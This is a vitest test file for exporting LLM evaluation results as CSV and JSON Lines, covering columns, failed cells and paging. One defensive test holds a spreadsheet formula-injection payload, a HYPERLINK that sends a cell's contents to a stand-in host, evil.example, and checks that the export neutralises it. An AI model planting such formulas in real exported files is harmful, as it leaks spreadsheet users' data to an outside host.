import { describe, expect, it } from 'vitest';
import { evalSpecSchema } from '../../../src-shared/evals/eval-definition';
import type { EvalCell } from '../../../src-shared/evals/eval-run';
import type { Question } from '../../../src-shared/judge/question-rules';
import { parseCsv } from '../judge/cases/csv';
import {
  EXPORT_PAGE_ROWS,
  evalResultsChunks,
  evalResultsText,
  type EvalRowWithPosition,
  type EvalResultsSource,
} from './eval-results-export';

const spec = evalSpecSchema.parse({
  name: 'Export',
  dataset: { source: { kind: 'stored' }, columns: ['customer', 'issue'], expectedColumn: 'gold' },
  variants: [
    { id: 'A', name: 'Plain', user: '{{customer}}: {{issue}}' },
    { id: 'B', name: 'Warm', user: 'Dear {{customer}}: {{issue}}' },
  ],
  targets: [{ id: 'one', profileId: 'sandbox', model: 'sandbox-chat-1' }],
  grader: { set: { kind: 'saved', setId: 's', revision: 1 }, judgeModel: 'judge-1.13.0' },
  checks: [
    { kind: 'contains', text: '{{gold}}' },
    { kind: 'max-length', chars: 100 },
  ],
});

const questions = [
  { name: 'tone', type: 'choice' },
  { name: 'helpfulness', type: 'score' },
  { name: 'offers_refund', type: 'noul' },
] as unknown as Question[];

const row = (position: number, customer = `C${position}`): EvalRowWithPosition => ({
  position,
  variables: { customer, issue: `issue ${position}` },
  expected: `gold ${position}`,
});

function doneCell(r: number, variantId: string, text = `reply ${r}${variantId}`): EvalCell {
  return {
    runId: 'run',
    row: r,
    variantId,
    targetId: 'one',
    sample: 0,
    cacheKey: 'k',
    state: 'done',
    reply: { text, finishReason: 'stop', model: 'sandbox-chat-1' },
    latencyMs: 120,
    tokensIn: 30,
    tokensOut: 12,
    checks: [
      { kind: 'contains', pass: false, reason: 'no gold' },
      { kind: 'max-length', pass: true, reason: '' },
    ],
    grades: [
      { name: 'tone', kind: 'choice', choice: 'polite', options: [] },
      { name: 'helpfulness', kind: 'score', score: 3.5, base: 1, position: 2.5, levels: [] },
      { name: 'offers_refund', kind: 'noul', noul: 0.25 },
    ],
    updatedAt: 1,
  };
}

function source(rows: EvalRowWithPosition[], cells: EvalCell[]) {
  const asked: [number, number][] = [];
  const s: EvalResultsSource = {
    rows: (from, limit) => rows.filter((r) => r.position >= from && r.position < from + limit),
    cells: (from, to) => {
      asked.push([from, to]);
      return cells.filter((c) => c.row >= from && c.row < to);
    },
  };
  return { s, asked };
}

describe('evalResultsChunks', () => {
  it('writes a CSV line per cell with the row, the reply, the checks and each question’s reading', () => {
    const rows = [row(0), row(1)];
    const failed: EvalCell = {
      ...doneCell(1, 'B'),
      state: 'failed',
      reply: undefined,
      checks: undefined,
      grades: undefined,
      latencyMs: undefined,
      tokensIn: undefined,
      tokensOut: undefined,
      error: { code: 'rate_limited', message: 'Too many requests' },
    };
    const { s } = source(rows, [doneCell(0, 'A'), doneCell(0, 'B'), doneCell(1, 'A'), failed]);
    const [header, ...lines] = parseCsv(evalResultsText(spec, questions, 2, s, 'csv')).map((r) => r.fields);
    expect(header).toEqual([
      'row', 'variant', 'variant_name', 'target', 'model', 'sample', 'state',
      'customer', 'issue', 'gold',
      'reply', 'finish_reason', 'answered_by', 'from_cache', 'latency_ms', 'tokens_in', 'tokens_out', 'cost_yuan',
      'check1.contains', 'check2.max-length',
      'tone.choice', 'helpfulness.position', 'offers_refund.value',
      'error',
    ]); // prettier-ignore
    expect(lines).toHaveLength(4);
    expect(lines[0]).toEqual([
      '1', 'A', 'Plain', 'one', 'sandbox-chat-1', '1', 'done',
      'C0', 'issue 0', 'gold 0',
      'reply 0A', 'stop', 'sandbox-chat-1', 'false', '120', '30', '12', '',
      'fail', 'pass',
      'polite', '2.5', '0.25',
      '',
    ]); // prettier-ignore
    const last = lines[3];
    expect(last.slice(0, 7)).toEqual(['2', 'B', 'Warm', 'one', 'sandbox-chat-1', '1', 'failed']);
    expect(last.at(-1)).toBe('Too many requests');
    expect(last[header.indexOf('reply')]).toBe('');
    expect(last[header.indexOf('tone.choice')]).toBe('');
  });

  it('neutralises formula-leading cells from the row and the reply, unless raw', () => {
    const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
    const { s } = source([row(0, hostile)], [doneCell(0, 'A', '@SUM(1+9)')]);
    const read = (raw: boolean) => {
      const [header, line] = parseCsv(evalResultsText(spec, questions, 1, s, 'csv', { raw })).map(
        (r) => r.fields,
      );
      return [line[header.indexOf('customer')], line[header.indexOf('reply')]];
    };
    expect(read(false)).toEqual([`'${hostile}`, "'@SUM(1+9)"]);
    expect(read(true)).toEqual([hostile, '@SUM(1+9)']);
  });

  it('writes JSON Lines with the variables, the expected value and the answers whole, as they are', () => {
    const { s } = source([row(0, '=1+1')], [doneCell(0, 'A')]);
    const lines = evalResultsText(spec, questions, 1, s, 'jsonl').trim().split('\n');
    expect(lines).toHaveLength(1);
    const line = JSON.parse(lines[0]) as Record<string, unknown>;
    expect(line).toMatchObject({
      row: 1,
      variant: 'A',
      target: 'one',
      model: 'sandbox-chat-1',
      sample: 1,
      state: 'done',
      variables: { customer: '=1+1', issue: 'issue 0' },
      expected: 'gold 0',
      reply: { text: 'reply 0A' },
      latencyMs: 120,
    });
    expect(line.grades).toEqual(doneCell(0, 'A').grades);
  });

  it('reads a page of rows at a time and skips rows with no cell yet', () => {
    const total = EXPORT_PAGE_ROWS * 2 + 5;
    const rows = Array.from({ length: total }, (_, i) => row(i));
    // Only the first and the last rows have cells (the run was stopped in between, say).
    const cells = [doneCell(0, 'A'), doneCell(total - 1, 'B')];
    const { s, asked } = source(rows, cells);
    const chunks = [...evalResultsChunks(spec, questions, total, s, 'jsonl')];
    expect(asked).toEqual([
      [0, EXPORT_PAGE_ROWS],
      [EXPORT_PAGE_ROWS, EXPORT_PAGE_ROWS * 2],
      [EXPORT_PAGE_ROWS * 2, total],
    ]);
    expect(chunks).toHaveLength(2);
    expect(JSON.parse(chunks[1]).row).toBe(total);
    expect(JSON.parse(chunks[1]).variables.customer).toBe(`C${total - 1}`);
  });
});
